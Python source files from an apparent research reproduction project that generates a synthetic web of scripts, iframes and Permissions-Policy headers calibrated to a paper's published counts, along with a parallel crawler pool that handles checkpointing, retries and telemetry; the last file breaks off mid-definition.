                # Feature-Policy syntax in a Permissions-Policy header: the
                # paper's most common fatal mistake.
                return "camera 'self'; geolocation 'none'"
            if kind < 0.85:
                return value + ","
            return value.replace(")", "", 1)
        if roll < (self.rates.header_syntax_error_rate
                   + self.rates.header_semantic_issue_rate):
            kind = rng.random()
            if kind < 0.30:
                return value + ", gamepad=(none)"
            if kind < 0.55:
                return value + ", clipboard-read=(self https://cdn.example)"
            if kind < 0.75:
                return value + ", web-share=(self *)"
            return value + ', serial=("https://device-portal.example")'
        return value

    # -- scripts ---------------------------------------------------------------------------

    def _draw_scripts(self, rng: random.Random, host: str) -> list[Script]:
        scripts: list[Script] = [Script(
            url=f"https://{host}/js/app.js",
            source="(function(){var app={};app.boot=function(){};app.boot();})();",
        )]
        dynamic_gate = rng.random() < DYNAMIC_GATE_RATE
        static_gate = rng.random() < (STATIC_GATE_GIVEN_DYNAMIC if dynamic_gate
                                      else STATIC_GATE_GIVEN_PLAIN)
        for archetype in self._archetypes:
            if archetype.gated and not dynamic_gate:
                continue
            if rng.random() < archetype.rate:
                scripts.append(archetype.build(host, rng))
        if static_gate:
            for archetype in self._static_archetypes:
                if rng.random() < archetype.rate:
                    scripts.append(archetype.build(host, rng))
        return scripts

    # -- iframes ------------------------------------------------------------------------------

    def _draw_widgets(self, rng: random.Random) -> list[WidgetPlacement]:
        placements: list[WidgetPlacement] = []
        successful = PAPER.successful_sites
        ads_gate = rng.random() < 0.038
        for profile in self.profiles:
            if profile.category == "ads":
                base = {"googlesyndication.com": 0.82, "doubleclick.net": 0.70,
                        "criteo.com": 0.43}.get(profile.site, 0.3)
                extra = 0.0052 if profile.site == "doubleclick.net" else 0.0
                include = (ads_gate and rng.random() < base) or (
                    rng.random() < extra)
                count = rng.randint(1, 2) if include else 0
            else:
                include = rng.random() < profile.embed_count / successful
                count = 1
            if not include:
                continue
            placements.append(WidgetPlacement(
                profile=profile,
                delegated=rng.random() < profile.delegation_rate,
                lazy=rng.random() < profile.lazy_rate,
                count=count,
                starify=rng.random() < 0.04,
                use_rare_template=(rng.random()
                                   < profile.rare_template_rate),
                salt=rng.randint(0, 999_999),
            ))
        return placements

    def _draw_partner(self, rng: random.Random) -> list[IframeElement]:
        if rng.random() >= 0.04:
            return []
        partner_id = min(int(rng.paretovariate(0.8)), 4000)
        template_index = _weighted_index(
            rng, [weight for _, weight, _, _ in _PARTNER_TEMPLATES])
        allow = _PARTNER_TEMPLATES[template_index][0]
        return [IframeElement(
            src=f"https://partner-{partner_id}.example/w{template_index}",
            allow=allow,
            element_id="partner-widget",
        )]

    def _draw_plain_iframes(self, rng: random.Random, host: str,
                            has_widgets: bool
                            ) -> tuple[list[IframeElement], list[IframeElement]]:
        generic: list[IframeElement] = []
        local: list[IframeElement] = []
        if rng.random() >= 0.55:
            return generic, local
        for _ in range(_poisson(rng, 1.15)):
            cdn = rng.randint(1, 400)
            generic.append(IframeElement(
                src=f"https://cdn-widgets-{cdn}.example/embed",
                loading="lazy" if rng.random() < self.rates.lazy_iframe_rate
                else "",
            ))
        for _ in range(1 + _poisson(rng, 1.2)):
            if rng.random() < 0.017:
                # Same-site video player iframe with internal delegation —
                # the non-external part of the paper's 12.07 % delegation.
                local.append(IframeElement(
                    srcdoc="<video autoplay></video>",
                    allow="autoplay; fullscreen",
                    local_content=DocumentContent(scripts=[build_widget_script(
                        None, static=("autoplay", "fullscreen"))]),
                ))
            else:
                scheme = rng.choice(["about", "about", "data", "javascript"])
                local.append(IframeElement(
                    src=None if scheme == "about" else f"{scheme}:content",
                    srcdoc="<div>inline</div>" if scheme == "about" else None,
                ))
        return generic, local

    # -- URL resolution (used by the crawler's fetcher) -----------------------------

    def profile_for_host(self, host: str) -> WidgetProfile | None:
        return self._profiles_by_host.get(host)

    def partner_content(self, host: str, path: str) -> DocumentContent:
        """Content of a partner widget document (template from the path)."""
        try:
            template_index = int(path.lstrip("/").lstrip("w") or 0)
        except ValueError:
            template_index = 0
        template_index %= len(_PARTNER_TEMPLATES)
        _, __, dynamic, static = _PARTNER_TEMPLATES[template_index]
        script = build_widget_script(f"https://{host}/widget.js",
                                     dynamic=dynamic, static=static)
        return DocumentContent(scripts=[script])

    def subpage_content(self, rank: int, index: int) -> DocumentContent:
        """Content of one same-origin subpage.

        Subpages carry the landing page's scripts with their
        navigation-gated operations *promoted to immediate* — being on the
        page IS the navigation.  Click/login gates stay gated.  Widgets are
        landing-page only (keeping the landing page the richer document,
        as the paper's internal-pages literature finds for third parties).
        """
        from dataclasses import replace as _replace
        spec = self.site(rank)
        scripts = []
        for script in spec.scripts:
            promoted = tuple(
                _replace(op, requires_interaction=False)
                if op.interaction_gate == "navigation" else op
                for op in script.operations)
            scripts.append(_replace(script, operations=promoted))
        return DocumentContent(scripts=scripts)

    def sub_syndication_content(self, rng: random.Random) -> DocumentContent:
        """A nested ad frame — the depth-2 activity behind the nested
        delegation analysis.  Half the deployments probe battery from their
        own bundle, half offload measurement to a third-party helper,
        keeping the embedded first-/third-party mix realistic."""
        if rng.random() < 0.5:
            scripts = [build_widget_script(
                "https://sub-syndication.example/render.js",
                dynamic=("battery",), general_api=True)]
        else:
            scripts = [
                build_widget_script(
                    "https://sub-syndication.example/render.js"),
                build_widget_script(
                    "https://static.adsrvr.example/measure.js",
                    dynamic=("battery",), general_api=True),
            ]
        return DocumentContent(scripts=scripts)

    def generic_embed_content(self, host: str) -> DocumentContent:
        return DocumentContent(scripts=[Script(
            url=f"https://{host}/embed.js",
            source="(function(){render('embed');})();",
        )])


# -- small draw helpers ------------------------------------------------------------

def _weighted(rng: random.Random, table: tuple[tuple[str, float], ...]) -> str:
    roll = rng.random() * sum(weight for _, weight in table)
    cumulative = 0.0
    for value, weight in table:
        cumulative += weight
        if roll < cumulative:
            return value
    return table[-1][0]


def _weighted_index(rng: random.Random, weights: list[float]) -> int:
    roll = rng.random() * sum(weights)
    cumulative = 0.0
    for index, weight in enumerate(weights):
        cumulative += weight
        if roll < cumulative:
            return index
    return len(weights) - 1


def _poisson(rng: random.Random, lam: float) -> int:
    """Knuth's algorithm; lam is small here so this is fast."""
    import math
    threshold = math.exp(-lam)
    count = 0
    product = rng.random()
    while product > threshold:
        count += 1
        product *= rng.random()
    return count
