"""The paper's published marginals and the generator rates derived from them.

:data:`PAPER` collects, as plain constants, every aggregate number the paper
reports; the benchmark harness prints our measured value next to each.
:class:`GeneratorRates` converts the relevant counts into per-site
probabilities used by :mod:`repro.synthweb.generator`.

The paper's percentages are expressed **relative to top-level documents**
(1,121,018), not the 817,800 successfully crawled sites — Section 4: "From
this point onward, all comparisons are made with respect to the documents".
The same convention applies throughout our analysis pipeline.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class PaperMarginals:
    """Aggregates from the paper (Sections 4–5)."""

    # -- crawl scale (Section 4 prelude) -----------------------------------
    attempted_sites: int = 1_000_000
    successful_sites: int = 817_800
    ephemeral_errors: int = 60_183       # "Execution context was destroyed"
    load_timeouts: int = 28_700
    unreachable: int = 27_733            # DNS errors etc.
    minor_crawler_errors: int = 315
    final_update_timeouts: int = 90
    excluded_incomplete: int = 65_169    # incomplete iframes / late timeouts

    total_frames: int = 2_718_437
    top_level_documents: int = 1_121_018
    embedded_documents: int = 1_597_419
    distinct_top_level_origins: int = 1_062_824
    sites_with_iframes: int = 545_858
    avg_direct_iframes: float = 3.2
    local_embedded_share: float = 0.541
    external_embedded_share: float = 0.459
    avg_seconds_per_site: float = 35.0

    # -- permission usage (Section 4.1) --------------------------------------
    sites_with_any_invocation: int = 455_676          # 40.65 %
    share_any_invocation: float = 0.4065
    share_invocation_top_level: float = 0.3941
    share_invocation_embedded: float = 0.0798
    share_any_functionality: float = 0.4852           # dynamic ∪ static
    share_static_any: float = 0.305
    top_level_invoking_contexts: int = 441_831
    embedded_invoking_contexts: int = 143_863
    total_invoking_contexts: int = 585_694
    top_level_third_party_share: float = 0.9832
    embedded_first_party_share: float = 0.7486
    feature_policy_api_sites: int = 429_259

    # -- Table 4: invoked permissions (contexts) ------------------------------
    general_api_top_contexts: int = 432_795
    general_api_embedded_contexts: int = 49_514
    battery_top_contexts: int = 38_217
    battery_embedded_contexts: int = 68_815
    notifications_top_contexts: int = 55_594
    notifications_embedded_contexts: int = 1_654
    browsing_topics_top_contexts: int = 16_033
    browsing_topics_embedded_contexts: int = 26_072
    storage_access_top_contexts: int = 106
    storage_access_embedded_contexts: int = 16_438
    pkc_get_top_contexts: int = 5_774
    geolocation_top_contexts: int = 4_501
    encrypted_media_top_contexts: int = 1_274
    payment_top_contexts: int = 571
    keyboard_map_top_contexts: int = 862

    # -- Table 5: status checks (top-level websites) --------------------------
    all_permissions_checked_sites: int = 405_302
    attribution_reporting_checked_sites: int = 126_565
    browsing_topics_checked_sites: int = 40_732
    notifications_checked_sites: int = 20_548
    geolocation_checked_sites: int = 8_826
    microphone_checked_sites: int = 6_905
    run_ad_auction_checked_sites: int = 6_512
    camera_checked_sites: int = 6_199
    midi_checked_sites: int = 6_066
    push_checked_sites: int = 6_064
    any_status_check_sites: int = 435_185
    mean_permissions_checked: float = 1.74

    # -- Table 6: static detections (top-level websites) ----------------------
    clipboard_write_static_sites: int = 135_694
    storage_access_static_sites: int = 106_495
    geolocation_static_sites: int = 96_429
    notifications_static_sites: int = 88_953
    battery_static_sites: int = 63_243
    web_share_static_sites: int = 54_995
    browsing_topics_static_sites: int = 50_346
    encrypted_media_static_sites: int = 44_867
    camera_static_sites: int = 26_456
    microphone_static_sites: int = 26_456

    # -- delegation (Section 4.2) ---------------------------------------------
    share_sites_delegating: float = 0.1207
    share_sites_delegating_external: float = 0.108
    sites_delegating: int = 135_341
    sites_delegating_external: int = 121_043
    sites_delegating_third_party: int = 119_778
    total_delegations_external: int = 682_883
    directive_share_default_src: float = 0.8212
    directive_share_star: float = 0.1717
    directive_share_explicit_src: float = 0.0040
    directive_share_none: float = 0.0015
    directive_share_single_origin: float = 0.0016

    # -- headers (Section 4.3) --------------------------------------------------
    pp_header_adoption_all_docs: float = 0.0790     # Figure 2
    fp_header_adoption_all_docs: float = 0.0051     # Figure 2
    both_headers_sites: int = 2_302
    pp_header_docs: int = 157_048
    pp_header_top_level_docs: int = 50_469
    pp_header_top_level_share: float = 0.045
    pp_header_embedded_docs: int = 106_579
    pp_header_embedded_share: float = 0.123
    pp_header_top_level_valid: int = 47_681
    avg_permissions_per_header: float = 10.01
    share_headers_with_18_permissions: float = 0.2662
    share_headers_with_1_permission: float = 0.2433
    share_headers_with_9_permissions: float = 0.0847
    max_permissions_per_header: int = 64
    directive_class_disable_share: float = 0.835
    directive_class_self_share: float = 0.0968
    directive_class_star_share: float = 0.0602
    powerful_disable_or_self_share: float = 0.9708
    syntax_error_frames: int = 3_244
    syntax_error_share: float = 0.02
    syntax_error_top_level_sites: int = 2_788
    semantic_misconfig_sites: int = 6_408
    semantic_misconfig_embedded_sites: int = 653
    embedded_directive_disable_share: float = 0.5105
    embedded_directive_self_share: float = 0.1689
    embedded_directive_star_share: float = 0.3073

    # -- over-permission (Section 5) ---------------------------------------------
    overpermissioned_affected_sites: int = 36_307
    overpermission_prevalence_threshold: float = 0.05
    livechat_total_sites: int = 13_753
    livechat_overpermissioned_sites: int = 13_734
    livechat_delegation_rate: float = 0.9969

    # -- derived helpers -----------------------------------------------------------

    @property
    def redirect_factor(self) -> float:
        """Top-level documents per successful site (redirect hops)."""
        return self.top_level_documents / self.successful_sites

    def rate_of_top_docs(self, count: int) -> float:
        """A paper count as a fraction of top-level documents."""
        return count / self.top_level_documents

    def rate_of_sites(self, count: int) -> float:
        """A paper count as a fraction of successful sites."""
        return count / self.successful_sites


PAPER = PaperMarginals()


@dataclass(frozen=True)
class GeneratorRates:
    """Per-site probabilities for the synthetic web generator.

    Most values derive mechanically from :data:`PAPER` counts; a few are
    free parameters tuned so the *emergent* aggregates (which combine many
    overlapping draws) land on the paper's numbers.  Tuned values carry a
    ``# tuned`` note.
    """

    # -- failures (fractions of attempted sites) ------------------------------
    fail_ephemeral: float = PAPER.ephemeral_errors / PAPER.attempted_sites
    fail_timeout: float = PAPER.load_timeouts / PAPER.attempted_sites
    fail_unreachable: float = PAPER.unreachable / PAPER.attempted_sites
    fail_minor: float = PAPER.minor_crawler_errors / PAPER.attempted_sites
    fail_late_timeout: float = PAPER.final_update_timeouts / PAPER.attempted_sites
    fail_excluded: float = PAPER.excluded_incomplete / PAPER.attempted_sites

    # -- structure ---------------------------------------------------------------
    redirect_rate: float = PAPER.redirect_factor - 1.0
    iframe_any_rate: float = PAPER.sites_with_iframes / PAPER.successful_sites
    #: Mean count of generic/local iframes beyond the widget placements,
    #: for sites that have iframes at all.
    extra_local_iframes_mean: float = 1.6   # tuned → 54.1 % local share
    extra_generic_iframes_mean: float = 0.7  # tuned

    # -- top-level headers ----------------------------------------------------------
    #: Top-level header probability per site (the paper's 4.5 % of
    #: top-level documents; hops share the site's headers).
    pp_header_rate: float = PAPER.pp_header_top_level_share
    fp_header_rate: float = 0.010            # tuned → Fig 2's 0.51 % overall
    #: Top-level rate: 2,788 of 50,469 header sites (Section 4.3.3).
    header_syntax_error_rate: float = 0.065
    header_semantic_issue_rate: float = 0.15
    csp_rate: float = 0.12                   # share of sites with any CSP
    csp_frame_src_rate: float = 0.35         # of those, share constraining frames

    # -- lazy iframes ------------------------------------------------------------------
    lazy_iframe_rate: float = 0.18
