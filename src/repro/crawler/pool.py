"""Parallel crawl orchestration.

The paper ran 40 parallel crawlers for nine days; :class:`CrawlerPool` runs
N worker threads over the ranked origin list and aggregates the results
into a :class:`CrawlDataset` with the Section 4 failure taxonomy.  Results
are deterministic regardless of worker count because every site's content
is a pure function of (seed, rank).

Resilience (this mirrors the paper's operational setup, Appendix A.2):

* ``run(store=CrawlStore(...))`` persists every visit the moment it
  completes (C14), from whichever worker thread finished it, so a crash
  loses at most the in-flight visits;
* ``run(store=..., resume=True)`` queries the checkpoint for
  already-stored ranks and crawls only the remainder — the merged dataset
  is byte-identical to an uninterrupted run;
* ``run(telemetry=CrawlTelemetry())`` streams per-worker visit counts,
  retry counts, the failure taxonomy and rolling throughput to the
  collector while the crawl is still going;
* a :class:`~repro.crawler.resilience.RetryPolicy` re-attempts transient
  failures inside each worker, and an unexpected exception in any single
  visit is recorded as a ``minor-crawler-error`` instead of destroying
  the pool.
"""

from __future__ import annotations

import contextlib
import logging
import signal
import threading
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Callable, Iterator, Sequence

from repro.browser.page import Fetcher
from repro.obs.tracing import TRACER
from repro.crawler.crawler import CrawlConfig, Crawler
from repro.crawler.fetcher import SyntheticFetcher
from repro.crawler.records import SiteVisit
from repro.crawler.resilience import RetryPolicy
from repro.crawler.telemetry import CrawlTelemetry
from repro.policy.engine import PermissionsPolicyEngine
from repro.synthweb.generator import SyntheticWeb

if TYPE_CHECKING:  # pragma: no cover - import cycle: storage imports pool
    from repro.crawler.backends import FetcherSpec
    from repro.crawler.storage import CrawlStore

logger = logging.getLogger(__name__)


class _VisitList(list):
    """Visit list that tells its owning dataset when it mutates.

    Every analysis filters down to successful visits; the dataset caches
    that filter and this subclass invalidates the cache on any mutation.
    The ``getattr`` guard matters for unpickling: protocol-2 list pickles
    append items *before* instance state (the ``_dataset`` backref) is
    restored.
    """

    _dataset: "CrawlDataset | None"

    def _touch(self) -> None:
        dataset = getattr(self, "_dataset", None)
        if dataset is not None:
            dataset._invalidate()

    def append(self, item):  # noqa: D102 - list API
        super().append(item)
        self._touch()

    def extend(self, items):
        super().extend(items)
        self._touch()

    def insert(self, index, item):
        super().insert(index, item)
        self._touch()

    def remove(self, item):
        super().remove(item)
        self._touch()

    def pop(self, *args):
        item = super().pop(*args)
        self._touch()
        return item

    def clear(self):
        super().clear()
        self._touch()

    def sort(self, **kwargs):
        super().sort(**kwargs)
        self._touch()

    def reverse(self):
        super().reverse()
        self._touch()

    def __setitem__(self, index, value):
        super().__setitem__(index, value)
        self._touch()

    def __delitem__(self, index):
        super().__delitem__(index)
        self._touch()

    def __iadd__(self, other):
        result = super().__iadd__(other)
        self._touch()
        return result

    def __imul__(self, count):
        result = super().__imul__(count)
        self._touch()
        return result


@dataclass
class CrawlDataset:
    """All visits of one measurement run."""

    visits: list[SiteVisit] = field(default_factory=list)
    _successful_cache: "list[SiteVisit] | None" = field(
        default=None, init=False, repr=False, compare=False)

    def __setattr__(self, name: str, value: object) -> None:
        if name == "visits":
            if not isinstance(value, _VisitList):
                value = _VisitList(value)  # type: ignore[arg-type]
            value._dataset = self
            object.__setattr__(self, name, value)
            self._invalidate()
        else:
            object.__setattr__(self, name, value)

    def _invalidate(self) -> None:
        object.__setattr__(self, "_successful_cache", None)

    @property
    def attempted(self) -> int:
        return len(self.visits)

    def successful(self) -> list[SiteVisit]:
        """Successful visits, cached until :attr:`visits` next mutates.

        Callers share the cached list; treat it as read-only.
        """
        cached = self._successful_cache
        if cached is None:
            cached = [visit for visit in self.visits if visit.success]
            object.__setattr__(self, "_successful_cache", cached)
        return cached

    @property
    def successful_count(self) -> int:
        return len(self.successful())

    def failure_summary(self) -> dict[str, int]:
        """Failure taxonomy counts (the Section 4 breakdown)."""
        return dict(Counter(visit.failure for visit in self.visits
                            if not visit.success))

    @property
    def retry_count(self) -> int:
        """Total transient-failure retries spent across all visits."""
        return sum(visit.retries for visit in self.visits)

    @property
    def top_level_document_count(self) -> int:
        """Top-level documents including redirect hops — the denominator of
        every percentage the paper reports."""
        return sum(visit.top_level_document_count
                   for visit in self.successful())

    @property
    def embedded_document_count(self) -> int:
        return sum(len(visit.embedded_frames())
                   for visit in self.successful())

    @property
    def total_frame_count(self) -> int:
        return self.top_level_document_count + self.embedded_document_count

    def average_duration_seconds(self) -> float:
        if not self.visits:
            return 0.0
        return (sum(visit.duration_seconds for visit in self.visits)
                / len(self.visits))

    def sites_with_iframes(self) -> int:
        return sum(1 for visit in self.successful()
                   if visit.embedded_frames())

    def local_embedded_share(self) -> float:
        """Share of embedded documents that are local documents."""
        local = 0
        total = 0
        for visit in self.successful():
            for frame in visit.embedded_frames():
                total += 1
                if frame.is_local:
                    local += 1
        return local / total if total else 0.0


#: Valid values for ``CrawlerPool(backend=...)``.
BACKENDS = ("auto", "serial", "thread", "process")


class _CrawlInterrupted(Exception):
    """Internal: a worker observed the pool's stop request.

    Never escapes :meth:`CrawlerPool.run`; it only unwinds the backend
    loops so an interrupted run returns the visits completed so far.
    """


@contextlib.contextmanager
def _stop_on_signals(pool: "CrawlerPool") -> Iterator[None]:
    """Install SIGINT/SIGTERM handlers that request a graceful stop.

    Handlers are only installable from the main thread (and only on
    platforms that have the signals); anywhere else this is a no-op, and
    previous handlers are always restored on exit.  The handler merely
    sets the pool's stop event — completed visits are already checkpointed
    by the normal save path, so the run winds down to a cleanly resumable
    store instead of dying mid-write.
    """
    if threading.current_thread() is not threading.main_thread():
        yield
        return
    previous: dict[int, object] = {}

    def handler(signum: int, frame: object) -> None:
        logger.warning("received signal %d — finishing in-flight visits "
                       "and checkpointing", signum)
        pool.request_stop()

    for signum in (signal.SIGINT, signal.SIGTERM):
        try:
            previous[signum] = signal.signal(signum, handler)
        except (ValueError, OSError):  # pragma: no cover - platform quirk
            continue
    try:
        yield
    finally:
        for signum, old in previous.items():
            try:
                signal.signal(signum, old)
            except (ValueError, OSError):  # pragma: no cover
                continue


class CrawlerPool:
    """Runs crawls over a ranked range of the synthetic web.

    Backends (results are byte-identical across all of them):

    * ``"serial"`` — one visit after another in the calling thread;
    * ``"thread"`` — a :class:`ThreadPoolExecutor`; useful for I/O-bound
      fetchers, no speedup for the pure-Python synthetic crawl (GIL);
    * ``"process"`` — contiguous rank chunks crawled in worker processes
      (:mod:`repro.crawler.backends`), the only backend that uses multiple
      cores;
    * ``"auto"`` — ``serial`` for ``workers=1``, else ``thread``.
    """

    def __init__(self, web: SyntheticWeb, *, workers: int = 4,
                 config: CrawlConfig | None = None,
                 engine: PermissionsPolicyEngine | None = None,
                 retry_policy: RetryPolicy | None = None,
                 fetcher_factory: Callable[[], Fetcher] | None = None,
                 fetcher_spec: "FetcherSpec | None" = None,
                 backend: str = "auto",
                 mp_context: str | None = None) -> None:
        if workers < 1:
            raise ValueError("workers must be >= 1")
        if backend not in BACKENDS:
            raise ValueError(f"backend must be one of {BACKENDS}, "
                             f"got {backend!r}")
        if fetcher_factory is not None and fetcher_spec is not None:
            raise ValueError("pass fetcher_factory or fetcher_spec, not both")
        self.web = web
        self.workers = workers
        self.backend = backend
        #: Start-method name for the process backend (``"fork"``/
        #: ``"spawn"``); ``None`` picks the best available.
        self.mp_context = mp_context
        self.config = config if config is not None else CrawlConfig()
        self.retry_policy = retry_policy
        self._engine = engine
        #: Picklable fetcher recipe — the only fetcher customisation the
        #: process backend supports (closures don't cross processes).
        self.fetcher_spec = fetcher_spec
        self._custom_factory = fetcher_factory is not None
        #: Builds the fetcher each per-visit crawler uses; override to wrap
        #: the network stack, e.g. with a
        #: :class:`~repro.crawler.resilience.FaultInjectingFetcher`.  Called
        #: once per visit so wrapper state (fault-injection attempt
        #: counters) stays per-visit and worker-count independent.
        if fetcher_factory is not None:
            self.fetcher_factory = fetcher_factory
        elif fetcher_spec is not None:
            self.fetcher_factory = lambda: fetcher_spec.build(self.web)
        else:
            self.fetcher_factory = lambda: SyntheticFetcher(self.web)
        self._stop = threading.Event()

    def request_stop(self) -> None:
        """Ask a running crawl to wind down gracefully.

        Safe from any thread and from signal handlers: in-flight visits
        finish (and are checkpointed), queued visits are abandoned, and
        :meth:`run` returns what completed.  A store-backed run left this
        way resumes to a byte-identical dataset.
        """
        self._stop.set()

    @property
    def stop_requested(self) -> bool:
        return self._stop.is_set()

    def resolved_backend(self, backend: str | None = None) -> str:
        """The concrete backend a run would use (never ``"auto"``)."""
        choice = backend if backend is not None else self.backend
        if choice not in BACKENDS:
            raise ValueError(f"backend must be one of {BACKENDS}, "
                             f"got {choice!r}")
        if choice == "auto":
            return "serial" if self.workers == 1 else "thread"
        return choice

    def _make_crawler(self) -> Crawler:
        return Crawler(self.fetcher_factory(), config=self.config,
                       engine=self._engine, retry_policy=self.retry_policy)

    def run(self, ranks: Sequence[int] | None = None,
            progress: Callable[[int, int], None] | None = None,
            *,
            store: "CrawlStore | None" = None,
            resume: bool = False,
            telemetry: CrawlTelemetry | None = None,
            backend: str | None = None,
            handle_signals: bool = False) -> CrawlDataset:
        """Crawl the given ranks (default: the whole list) once each.

        With ``store``, every visit is persisted the moment it completes
        (the process backend persists per finished chunk); with
        ``resume=True`` as well, ranks already in the store are loaded
        back instead of re-crawled and the merged dataset equals an
        uninterrupted run.  ``telemetry`` receives per-visit updates.
        ``backend`` overrides the pool's configured backend for this run.

        With ``handle_signals=True`` (the CLI's mode), SIGINT/SIGTERM
        request a graceful stop for the duration of the run: in-flight
        visits finish and are checkpointed, the store's WAL is flushed,
        and the partial dataset is returned — ``resume=True`` on the same
        store later completes it to a byte-identical dataset.
        :meth:`request_stop` does the same programmatically.
        """
        if resume and store is None:
            raise ValueError("resume=True requires a store")
        chosen = self.resolved_backend(backend)
        self._stop.clear()
        targets = list(ranks if ranks is not None
                       else range(self.web.site_count))
        resumed: list[SiteVisit] = []
        if resume:
            done = store.stored_ranks()
            if done:
                wanted = set(targets) & done
                resumed = store.load_visits(sorted(wanted))
                targets = [rank for rank in targets if rank not in done]
        if telemetry is not None:
            # total covers the full run, so a resumed run still converges
            # to done (completed + resumed == total) instead of reporting
            # a non-empty queue forever.
            telemetry.start(len(targets) + len(resumed), backend=chosen)
            telemetry.record_resumed(len(resumed))
        logger.info("crawl starting: %d targets (%d resumed), backend=%s, "
                    "workers=%d", len(targets), len(resumed), chosen,
                    self.workers)

        def visit_rank(rank: int) -> SiteVisit:
            # One crawler (and one fetcher) per task keeps worker state
            # independent, like the paper's per-site fresh (stateless)
            # browser — and makes fault-injection state per-visit, so
            # serial, parallel and resumed runs all see identical faults.
            if self._stop.is_set():
                raise _CrawlInterrupted(rank)
            with TRACER.span("crawl.visit", rank=rank):
                crawler = self._make_crawler()
                visit = crawler.visit(self.web.origin_for_rank(rank),
                                      rank=rank)
            if store is not None:
                store.save_visit(visit)
            if telemetry is not None:
                telemetry.record_visit(visit)
                for event in crawler.guard_events:
                    telemetry.record_guard_event(event.kind)
            return visit

        dataset = CrawlDataset()
        dataset.visits.extend(resumed)
        guard = (_stop_on_signals(self) if handle_signals
                 else contextlib.nullcontext())
        with guard, TRACER.span("crawl.run", backend=chosen,
                                sites=len(targets), resumed=len(resumed),
                                workers=self.workers):
            if chosen == "process" and targets:
                from repro.crawler.backends import crawl_in_processes
                dataset.visits.extend(crawl_in_processes(
                    self, targets, progress=progress, store=store,
                    telemetry=telemetry))
            elif chosen == "serial" or self.workers == 1:
                for index, rank in enumerate(targets):
                    if self._stop.is_set():
                        break
                    try:
                        dataset.visits.append(visit_rank(rank))
                    except _CrawlInterrupted:
                        break
                    if progress is not None:
                        progress(index + 1, len(targets))
            else:
                with ThreadPoolExecutor(max_workers=self.workers) as executor:
                    try:
                        for index, visit in enumerate(
                                executor.map(visit_rank, targets)):
                            dataset.visits.append(visit)
                            if progress is not None:
                                progress(index + 1, len(targets))
                    except _CrawlInterrupted:
                        # Queued tasks unwind the same way as they are
                        # scheduled; the executor exit just drains them.
                        pass
        dataset.visits.sort(key=lambda visit: visit.rank)
        if self._stop.is_set():
            if store is not None:
                store.flush()
            if telemetry is not None:
                telemetry.record_interrupted()
            logger.warning(
                "crawl interrupted after %d/%d visits — checkpoint "
                "flushed; rerun with resume=True to finish",
                dataset.attempted - len(resumed), len(targets))
        else:
            logger.info("crawl finished: %d visits (%d ok)",
                        dataset.attempted, dataset.successful_count)
        return dataset
