"""Parallel crawl orchestration.

The paper ran 40 parallel crawlers for nine days; :class:`CrawlerPool` runs
N worker threads over the ranked origin list and aggregates the results
into a :class:`CrawlDataset` with the Section 4 failure taxonomy.  Results
are deterministic regardless of worker count because every site's content
is a pure function of (seed, rank).

Resilience (this mirrors the paper's operational setup, Appendix A.2):

* ``run(store=CrawlStore(...))`` persists every visit the moment it
  completes (C14), from whichever worker thread finished it, so a crash
  loses at most the in-flight visits;
* ``run(store=..., resume=True)`` queries the checkpoint for
  already-stored ranks and crawls only the remainder — the merged dataset
  is byte-identical to an uninterrupted run;
* ``run(telemetry=CrawlTelemetry())`` streams per-worker visit counts,
  retry counts, the failure taxonomy and rolling throughput to the
  collector while the crawl is still going;
* a :class:`~repro.crawler.resilience.RetryPolicy` re-attempts transient
  failures inside each worker, and an unexpected exception in any single
  visit is recorded as a ``minor-crawler-error`` instead of destroying
  the pool.
"""

from __future__ import annotations

from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Callable, Sequence

from repro.browser.page import Fetcher
from repro.crawler.crawler import CrawlConfig, Crawler
from repro.crawler.fetcher import SyntheticFetcher
from repro.crawler.records import SiteVisit
from repro.crawler.resilience import RetryPolicy
from repro.crawler.telemetry import CrawlTelemetry
from repro.policy.engine import PermissionsPolicyEngine
from repro.synthweb.generator import SyntheticWeb

if TYPE_CHECKING:  # pragma: no cover - import cycle: storage imports pool
    from repro.crawler.storage import CrawlStore


@dataclass
class CrawlDataset:
    """All visits of one measurement run."""

    visits: list[SiteVisit] = field(default_factory=list)

    @property
    def attempted(self) -> int:
        return len(self.visits)

    def successful(self) -> list[SiteVisit]:
        return [visit for visit in self.visits if visit.success]

    @property
    def successful_count(self) -> int:
        return sum(1 for visit in self.visits if visit.success)

    def failure_summary(self) -> dict[str, int]:
        """Failure taxonomy counts (the Section 4 breakdown)."""
        return dict(Counter(visit.failure for visit in self.visits
                            if not visit.success))

    @property
    def retry_count(self) -> int:
        """Total transient-failure retries spent across all visits."""
        return sum(visit.retries for visit in self.visits)

    @property
    def top_level_document_count(self) -> int:
        """Top-level documents including redirect hops — the denominator of
        every percentage the paper reports."""
        return sum(visit.top_level_document_count
                   for visit in self.successful())

    @property
    def embedded_document_count(self) -> int:
        return sum(len(visit.embedded_frames())
                   for visit in self.successful())

    @property
    def total_frame_count(self) -> int:
        return self.top_level_document_count + self.embedded_document_count

    def average_duration_seconds(self) -> float:
        if not self.visits:
            return 0.0
        return (sum(visit.duration_seconds for visit in self.visits)
                / len(self.visits))

    def sites_with_iframes(self) -> int:
        return sum(1 for visit in self.successful()
                   if visit.embedded_frames())

    def local_embedded_share(self) -> float:
        """Share of embedded documents that are local documents."""
        local = 0
        total = 0
        for visit in self.successful():
            for frame in visit.embedded_frames():
                total += 1
                if frame.is_local:
                    local += 1
        return local / total if total else 0.0


class CrawlerPool:
    """Runs crawls over a ranked range of the synthetic web."""

    def __init__(self, web: SyntheticWeb, *, workers: int = 4,
                 config: CrawlConfig | None = None,
                 engine: PermissionsPolicyEngine | None = None,
                 retry_policy: RetryPolicy | None = None,
                 fetcher_factory: Callable[[], Fetcher] | None = None
                 ) -> None:
        if workers < 1:
            raise ValueError("workers must be >= 1")
        self.web = web
        self.workers = workers
        self.config = config if config is not None else CrawlConfig()
        self.retry_policy = retry_policy
        self._engine = engine
        #: Builds the fetcher each per-visit crawler uses; override to wrap
        #: the network stack, e.g. with a
        #: :class:`~repro.crawler.resilience.FaultInjectingFetcher`.  Called
        #: once per visit so wrapper state (fault-injection attempt
        #: counters) stays per-visit and worker-count independent.
        self.fetcher_factory = (fetcher_factory if fetcher_factory is not None
                                else lambda: SyntheticFetcher(self.web))

    def _make_crawler(self) -> Crawler:
        return Crawler(self.fetcher_factory(), config=self.config,
                       engine=self._engine, retry_policy=self.retry_policy)

    def run(self, ranks: Sequence[int] | None = None,
